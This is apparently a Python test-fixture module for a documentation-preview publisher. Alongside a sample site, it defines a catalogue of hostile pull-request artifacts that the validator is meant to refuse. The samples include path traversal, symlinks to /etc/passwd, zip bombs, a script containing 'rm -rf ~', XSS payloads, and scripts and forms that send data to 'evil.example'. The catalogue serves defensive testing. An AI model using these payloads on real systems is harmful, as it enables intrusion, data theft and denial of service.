"""Artifacts of pull requests: a small site as a build leaves it, and builds that want to do harm."""

from __future__ import annotations

import gzip
import hashlib
import io
import json
import stat
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterable, Mapping
from dataclasses import dataclass
from pathlib import Path

from dsdocs.publish.model import INPUTS, Candidate, Inputs, Main, Repository, write_json

Site = dict[str, bytes]  # content by path
_PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010804000000b51c0c020000000b4944415478da6364f80f00010501012718e366"
    "0000000049454e44ae426082"
)
_HEAD = """<!DOCTYPE html>
<html lang="en" data-content_root="./"><head><meta charset="utf-8"><title>Guide</title>
<link rel="stylesheet" href="_static/site.css"><script defer src="_static/js/map.js?v=1"></script></head>
<body><form action="search.html" method="get"><input name="q" aria-label="Search"></form>
"""
_FOOT = "</body></html>\n"
MAP = """\
/* Geometry of one map, written by folium and drawn by Leaflet; map.js calls it. */
(window.dsdocsMaps = window.dsdocsMaps || []).push({id: "map_8e10b648336d", src: document.currentScript.src,
draw: function (L, unfold) {
var map_8e10b648336d = L.map(
"map_8e10b648336d",
{
center: [51.0187,8.62785],
...{
"zoom": 3,
}
}
);
var polygon_land = L.polygon(
unfold("1660 -1646 95 38", 2),
{"className": "ds-map-land", "dashArray": null, "fill": true}
).addTo(map_8e10b648336d);
var feature_group_0 = L.featureGroup(
{
}
);
var polygon_0 = L.polygon(
[[[1.5,2.5],[3.5,4.5]]],
{"className": "ds-map-patches", "fill": true}
).addTo(feature_group_0);
return {map: map_8e10b648336d, layers: [feature_group_0, L.featureGroup()], home: [[1.0, 2.0], [3.0, 4.0]], \
seam: null, cells: [[32,10.0,20.0,500000.0,4300000.0,4,4,"9f8="]], later: [1]};
}});
"""


def small_site() -> Site:
    """Return a site with a page of each kind, as bytes by path; it would pass as a preview."""
    column, heavy = gzip.compress(bytes(64), mtime=0), gzip.compress(_noise(150_000), mtime=0)
    manifest = {
        "format": 1, "statistics": "../band-statistics.json", "columns": [_entry("column-labels.gz", column)],
        "details": _entry("details.gz", heavy), "thumbnails": _entry("thumbnails.gz", gzip.compress(b"[]", mtime=0)),
    }  # fmt: skip
    return {
        "index.html": page('<h1>Guide</h1><p>Text.</p><p><a href="labels.html#top">Labels</a></p>'),
        "labels.html": page(
            '<h1 id="top">Labels</h1><img src="_data/thumbs/0.png" alt="A patch">'
            '<a download href="_data/csv/labels.csv">CSV</a><script defer src="_data/maps/places.js"></script>'
        ),
        "explorer.html": page('<h1>Explorer</h1><div data-manifest="_data/explorer/manifest.json"></div>'),
        "search.html": page(
            '<h1>Search</h1><form action="#"><input name="q"></form><script src="searchindex.js"></script>'
        ),
        "searchindex.js": b'Search.setIndex({"docnames":["index","labels"],"terms":{"patch":[0,1]}})',
        "llms.txt": b"# Guide\n",
        "_static/js/map.js": b'"use strict";\n(() => { window.ready = true; })();\n',
        "_static/site.css": b"body { margin: 0; background: url(paper.png) }\n",
        "_static/paper.png": _PNG,
        "_static/favicon.svg": b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><path d="M0 0h1v1z"/></svg>',
        "_data/maps/places.js": MAP.encode(),
        "_data/csv/labels.csv": b"class,patches\nForest,3\n",
        "_data/facts.json": b'{"n_patches": 3}',
        "_data/band-statistics.json": b'{"assets": {}}',
        "_data/thumbs/0.png": _PNG,
        "_data/explorer/manifest.json": json.dumps(manifest).encode(),
        "_data/explorer/column-labels.gz": column,
        "_data/explorer/details.gz": heavy,
        "_data/explorer/thumbnails.gz": gzip.compress(b"[]", mtime=0),
    }


def page(body: str) -> bytes:
    """Return a page with this between head and end of the body."""
    return f"{_HEAD}{body}{_FOOT}".encode()


def read_site(folder: Path) -> Site:
    """Read a built site, as the artifact of the workflow has it: without hidden files."""
    paths = sorted(path for path in folder.rglob("*") if path.is_file())
    names = ((path.relative_to(folder).as_posix(), path) for path in paths)
    return {name: path.read_bytes() for name, path in names if not name.startswith(".")}


def pack(site: Mapping[str, bytes], more: Iterable[tuple[zipfile.ZipInfo, bytes]] = ()) -> bytes:
    """Return a site as an artifact: a zip archive with the same bytes on every run."""
    sink = io.BytesIO()
    with zipfile.ZipFile(sink, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, data in sorted(site.items()):
            archive.writestr(_info(name), data)
        for info, data in more:
            archive.writestr(info, data)
    return sink.getvalue()


def write_inputs(
    folder: Path,
    main: bytes,
    previews: Mapping[int, bytes],
    *,
    updated: Mapping[int, str] | None = None,
    order: Iterable[int] | None = None,
) -> Path:
    """Write what `collect` leaves: artifacts, and a file that says whose they are; return the folder."""
    folder.mkdir(parents=True)
    (folder / "main.zip").write_bytes(main)
    candidates = []
    for number in order or sorted(previews):
        (folder / f"pr-{number}.zip").write_bytes(previews[number])
        time = (updated or {}).get(number, f"2026-01-{number % 28 + 1:02}T00:00:00Z")
        digest = hashlib.sha256(previews[number]).hexdigest()
        candidates.append(
            Candidate(number, f"{number:040x}", "stranger", "fix", 2, 100 + number, time, f"pr-{number}.zip", digest)
        )
    built = Main(1, "a" * 40, "main.zip", hashlib.sha256(main).hexdigest())
    repository = Repository(1, "owner/repo", "main")
    write_json(folder / INPUTS, Inputs(repository, "https://owner.github.io/repo/", built, tuple(candidates)))
    return folder


@dataclass(frozen=True, slots=True)
class Hostile:
    """A build that wants to do harm, and a part of the reason why it is refused."""

    make: Callable[[Site], bytes]
    reason: str


def _entry(path: str, data: bytes) -> dict[str, object]:
    return {"path": path, "bytes": len(data), "sha256": hashlib.sha256(data).hexdigest()}


def _noise(length: int) -> bytes:
    return hashlib.shake_256(b"noise").digest(length)


def _info(name: str, mode: int = stat.S_IFREG | 0o644) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0))
    info.compress_type = zipfile.ZIP_DEFLATED
    info.create_system = 3  # Unix, so that the mode counts
    info.external_attr = mode << 16
    return info


def _file(name: str, data: bytes = b"x") -> Callable[[Site], bytes]:
    return lambda site: pack(site | {name: data})


def _body(text: str) -> Callable[[Site], bytes]:
    """Make a build whose page has this in its body, on a line of its own."""
    return lambda site: pack(site | {"labels.html": page(f"<h1>Labels</h1>\n{text}\n")})


def _head(text: str) -> Callable[[Site], bytes]:
    return lambda site: pack(
        site | {"labels.html": page("<h1>Labels</h1>").replace(b"</head>", text.encode() + b"</head>")}
    )


def _member(name: str, mode: int, data: bytes = b"x") -> Callable[[Site], bytes]:
    return lambda site: pack(site, [(_info(name, mode), data)])


def _map(old: str, new: str) -> Callable[[Site], bytes]:
    assert old in MAP
    return _file("_data/maps/places.js", MAP.replace(old, new).encode())


def _twice(site: Site) -> bytes:
    data = pack(site | {"label_.html": b"<p>other</p>"})
    return data.replace(b"label_.html", b"labels.html")  # a writer would warn


def _encrypted(site: Site) -> bytes:
    data = bytearray(pack(site))
    for mark, at in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        data[data.index(mark) + at] |= 1
    return bytes(data)


def _tar(site: Site) -> bytes:
    sink = io.BytesIO()
    with tarfile.open(fileobj=sink, mode="w") as archive:
        for name in ("index.html", "labels.html"):
            info = tarfile.TarInfo(name)
            info.type, info.linkname = tarfile.LNKTYPE, "/etc/hostname"
            archive.addfile(info)
    return sink.getvalue()


def _overlapping(site: Site) -> bytes:
    """Return an archive whose members share their packed bytes (Fifield, 2019)."""
    packed = zlib.compress(bytes(2_000_000), 9)[2:-4]
    kernel = struct.pack(
        "<4s5H3L2H", b"PK\3\4", 20, 0, 8, 0, 0x21, zlib.crc32(bytes(2_000_000)), len(packed), 2_000_000, 10, 0
    )
    body = kernel + b"index.html" + packed
    records = b"".join(
        struct.pack("<4s6H3L5H2L", b"PK\1\2", 0x314, 20, 0, 8, 0, 0x21, zlib.crc32(bytes(2_000_000)), len(packed),
                    2_000_000, 10, 0, 0, 0, 0, 0o100644 << 16, 0) + b"index.html"
        for _ in range(100)
    )  # fmt: skip
    return body + records + struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 100, 100, len(records), len(body), 0)


def _lying(site: Site) -> bytes:
    """Return an archive with a member that says it is small, and is not."""
    data = bytearray(pack(site | {"zeros.txt": bytes(5_000_000)}))
    sizes = struct.pack("<L", 5_000_000)
    while (at := data.find(sizes)) >= 0:
        data[at : at + 4] = struct.pack("<L", 50)
    return bytes(data)


_SVG = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1">{}</svg>'
HOSTILE: dict[str, Hostile] = {
    "traversal into the root": Hostile(_file("../../index.html"), "leads upwards"),
    "traversal into another preview": Hostile(_file("../pr-8/index.html"), "leads upwards"),
    "traversal within": Hostile(_file("_data/../../pr-8/index.html"), "leads upwards"),
    "absolute path": Hostile(_file("/etc/cron.d/job"), "begins at the root"),
    "drive": Hostile(_file("C:/Windows/win.ini"), "begins at the root"),
    "backslashes": Hostile(_file("..\\..\\index.html"), "leads upwards"),
    "another preview by name": Hostile(_file("pr-preview/pr-8/index.html"), "is for previews"),
    "symbolic link": Hostile(_member("notes.txt", stat.S_IFLNK | 0o777, b"/etc/passwd"), "is a link"),
    "hard links in a tar": Hostile(_tar, "no zip archive"),
    "device": Hostile(_member("tty", stat.S_IFCHR | 0o666), "device"),
    "workflow": Hostile(_file(".github/workflows/x.yml"), "begins with a dot"),
    "hidden file": Hostile(_file("_data/.htaccess"), "begins with a dot"),
    "domain": Hostile(_file("CNAME", b"evil.example\n"), "meaning to the host"),
    "device of Windows": Hostile(_file("_data/nul.txt"), "device on Windows"),
    "control character": Hostile(_file("a\x1b[2Jb.txt"), "control character"),
    "letters that look alike": Hostile(_file("Labels.html"), "upper and lower case"),
    "file and folder at once": Hostile(_file("labels.html/x.txt"), "file and a folder"),
    "the same name twice": Hostile(_twice, "twice"),
    "encrypted": Hostile(_encrypted, "encrypted"),
    "program before the archive": Hostile(lambda site: b"MZ" + pack(site), "no zip archive"),
    "6,000 files": Hostile(lambda site: pack(site | {f"x/{n}.txt": b"" for n in range(6000)}), "more than 5,000 files"),
    "bomb": Hostile(_file("zeros.csv", bytes(30_000_000)), "as in a bomb"),
    "bomb of members in one another": Hostile(_overlapping, "in one another"),
    "bomb that lies about its size": Hostile(_lying, "cannot be unpacked"),
    "bomb in an archive in the archive": Hostile(
        lambda site: pack(site | {"data.zip": pack({"x": bytes(9_000_000)})}), "archives inside an archive"
    ),
    "bomb in a file of data": Hostile(
        _file("_data/zeros.gz", gzip.compress(bytes(20_000_000), mtime=0)), "as in a bomb"
    ),
    "page that is too large": Hostile(_body(_noise(2_600_000).hex()), "a page may have"),
    "page that is deep": Hostile(_body("<div>" * 300 + "</div>" * 300), "deep within one another"),
    "oversized": Hostile(_file("_data/noise.gz", _noise(101_000_000)), "the host takes"),
    "program": Hostile(_file("setup.exe", b"MZ\x90\0"), "of the kind '.exe'"),
    "program with the name of a picture": Hostile(_file("setup.png", b"\x7fELF\2\1\1\0"), "is no .png"),
    "program with the name of a text": Hostile(_file("setup.txt", b"#!/bin/sh\nrm -rf ~\n"), "is a program"),
    "page with the name of a text": Hostile(_file("a.txt", b" \n<html><script>1</script>"), "begins like a page"),
    "page with the name of data": Hostile(_file("a.json", b"<script>alert(1)</script>"), "begins like a page"),
    "page of another kind": Hostile(_file("a.xhtml", b"<html/>"), "of the kind '.xhtml'"),
    "no site": Hostile(lambda site: pack({"readme.txt": b"x"}), "no index.html"),
    "service worker": Hostile(_file("sw.js", b"self.onfetch = () => {}"), "not on the default branch"),
    "changed script": Hostile(_file("_static/js/map.js", b"alert(1)"), "differs from the script of"),
    "script at another path": Hostile(
        lambda site: pack(site | {"_static/js/other.js": site["_static/js/map.js"]}), "not on the default branch"
    ),
    "program for WebAssembly": Hostile(_file("x.wasm", b"\0asm\1\0\0\0"), "not on the default branch"),
    "map with other code": Hostile(_map("L.featureGroup(\n", "fetch(\n"), "other code than the maps"),
    "map with code in its text": Hostile(_map('"ds-map-land"', '"ds-map-land", "attribution": "<img>"'), "other code"),
    "map with code after it": Hostile(_map("}});\n", "}});\nalert(1);\n"), "other code than the maps"),
    "index with code": Hostile(_file("searchindex.js", b'Search.setIndex({"docnames":[]});alert(1)'), "JSON alone"),
    "script with the name of a text": Hostile(
        lambda site: pack(
            site | {"a.txt": b"alert(1)", "labels.html": page('<script src="a.txt"></script>')}
        ),
        "takes a.txt for a script",
    ),
    "module with the name of a text": Hostile(
        lambda site: pack(site | {"a.txt": b"alert(1)", "labels.html": page('<p data-host="a.txt">x</p>')}),
        "takes a.txt for a script",
    ),
    "pictures from elsewhere, by size": Hostile(
        _body('<img src="_data/thumbs/0.png" srcset="//evil.example/p.gif 2x" alt="">'), "srcset"
    ),
    "part of the document with another name": Hostile(
        _body('<img name="currentScript" src="_data/thumbs/0.png" alt="">'), "name"
    ),
    "script within the page": Hostile(_body("<script>alert(1)</script>"), "a script within the page"),
    "script from elsewhere": Hostile(_body('<script src="https://evil.example/x.js"></script>'), "another host"),
    "script without a scheme": Hostile(_body('<script src="//evil.example/x.js"></script>'), "another host"),
    "script out of the preview": Hostile(_body('<script src="../pr-8/x.js"></script>'), "leads out of the site"),
    "handler": Hostile(_body('<img src="_data/thumbs/0.png" alt="" onerror="alert(1)">'), "has the script"),
    "handler in a drawing": Hostile(_body('<svg onload="alert(1)"><path d=""/></svg>'), "has the script"),
    "link that is a program": Hostile(_body('<a href="javascript:alert(1)">x</a>'), "is a program"),
    "link that is a program, disguised": Hostile(_body('<a href="java&#10;script:alert(1)">x</a>'), "other ways"),
    "link with a page in it": Hostile(_body('<a href="data:text/html,<script>1</script>">x</a>'), "other ways"),
    "form": Hostile(_body('<form action="https://evil.example"><input name="p"></form>'), "form that leads to"),
    "form that posts": Hostile(_body('<form action="search.html" method="post"></form>'), "the search is the only one"),
    "button that sends elsewhere": Hostile(_body('<button formaction="//evil.example">x</button>'), "formaction"),
    "password": Hostile(_body('<input type="password" name="p">'), "asks its readers"),
    "refresh": Hostile(_head('<meta http-equiv="refresh" content="0;url=//evil.example">'), "like a header"),
    "base": Hostile(_head('<base href="https://evil.example/">'), "<base>"),
    "frame": Hostile(_body('<iframe src="https://evil.example"></iframe>'), "<iframe>"),
    "frame with a page in it": Hostile(_body('<iframe srcdoc="<script>1</script>"></iframe>'), "<iframe>"),
    "object": Hostile(_body('<object data="x.svg"></object>'), "<object>"),
    "template": Hostile(_body("<template><script>1</script></template>"), "<template>"),
    "element of one's own": Hostile(_body("<x-widget></x-widget>"), "<x-widget>"),
    "picture from elsewhere": Hostile(_body('<img src="https://evil.example/p.gif" alt="">'), "another host"),
    "styles from elsewhere": Hostile(_head('<link rel="stylesheet" href="//evil.example/x.css">'), "another host"),
    "connection in advance": Hostile(_head('<link rel="preconnect" href="https://evil.example">'), "preconnect"),
    "import in styles": Hostile(_file("_static/site.css", b'@import "//evil.example/x.css";'), "@import"),
    "import in disguise": Hostile(_file("_static/site.css", b'@\\69mport "//evil.example/x.css";'), "escape"),
    "address in styles": Hostile(_body("<style>p{background:url(//evil.example/x)}</style>"), "another host"),
    "address in an attribute": Hostile(_body('<p style="background:url(https://evil.example)">x</p>'), "another host"),
    "markup that styles hide from who runs no scripts": Hostile(
        _body('<noscript><style></noscript><meta http-equiv=refresh content="0;url=//evil"></style></noscript>'),
        "has </ in the element <style>",
    ),
    "start of the site that is elsewhere": Hostile(
        lambda site: pack(
            site | {"labels.html": page("x").replace(b'_root="./"', b'_root="https://evil.example/../../"')}
        ),
        "not the start of the site",
    ),
    "cover over the banner": Hostile(
        _body('<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">Sign in</div>'), "sets position"
    ),
    "banner with another text": Hostile(
        _body('<style>tr{color:red}.ds-preview::before{color:red;content:"Checked"}</style>'), "sets content"
    ),
    "banner above the screen": Hostile(_body("<style>p{}body{ margin :-99px}</style>"), "sets margin"),
    "banner above the screen, by a style sheet": Hostile(
        _file("_static/site.css", b"@media all{p{color:red}html{/**/transform/**/:none}}"), "sets transform"
    ),
    "styles of the whole page": Hostile(
        lambda site: pack(site | {"labels.html": page("x").replace(b"<body>", b'<body style="opacity:0">')}),
        "hide the banner",
    ),
    "class of the whole page": Hostile(
        lambda site: pack(site | {"labels.html": page("x").replace(b"<body>", b'<body class="ds-x-lab">')}),
        "hide the banner",
    ),
    "drawing with a script": Hostile(_file("a.svg", _SVG.format("<script>1</script>").encode()), "<script>"),
    "drawing with a page in it": Hostile(
        _file("a.svg", _SVG.format("<foreignObject><p>x</p></foreignObject>").encode()), "<foreignObject>"
    ),
    "drawing with entities": Hostile(
        _file("a.svg", b'<!DOCTYPE svg [<!ENTITY a "x">]>' + _SVG.format("&a;").encode()), "document type"
    ),
    "drawing with a style sheet": Hostile(
        _file("a.svg", b'<?xml-stylesheet href="//evil.example"?>' + _SVG.format("").encode()), "instruction"
    ),
    "manifest that leads away": Hostile(
        lambda site: pack(
            site
            | {
                "_data/explorer/manifest.json": site["_data/explorer/manifest.json"].replace(
                    b"column-labels.gz", b"https://evil.example/x"
                )
            }
        ),
        "another host",
    ),
    "data from elsewhere": Hostile(_body('<div data-manifest="https://evil.example/m.json"></div>'), "another host"),
    "pictures of changes": Hostile(_file("_changes/1-before.svg", _SVG.format("").encode()), "lies in _changes"),
    "not the text it says": Hostile(_file("labels.html", page("x").replace(b"utf-8", b"utf-7")), "expected utf-8"),
    "null characters": Hostile(_file("labels.html", page("<scr\0ipt>alert(1)</scr\0ipt>")), "null character"),
}  # fmt: skip
